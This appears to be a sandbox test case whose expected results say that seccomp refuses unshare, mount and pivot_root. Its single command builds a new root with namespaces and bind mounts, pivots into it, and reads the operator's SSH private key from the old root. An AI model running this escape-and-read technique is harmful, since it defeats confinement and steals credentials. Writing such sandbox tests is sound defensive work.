# title: pivots into a root of its own and back to the old one
# harm: learns
# B: seccomp refuses unshare, mount and pivot_root
# C: seccomp refuses unshare, mount and pivot_root
unshare -m sh -c 'mkdir r && mount -t tmpfs none r && mkdir r/old r/bin r/lib r/lib64 r/usr && mount --rbind /usr r/usr && mount --rbind /bin r/bin && mount --rbind /lib r/lib && mount --rbind /lib64 r/lib64 && cd r && pivot_root . old && /bin/cat "/old$OP_HOME/.ssh/id_ed25519"'
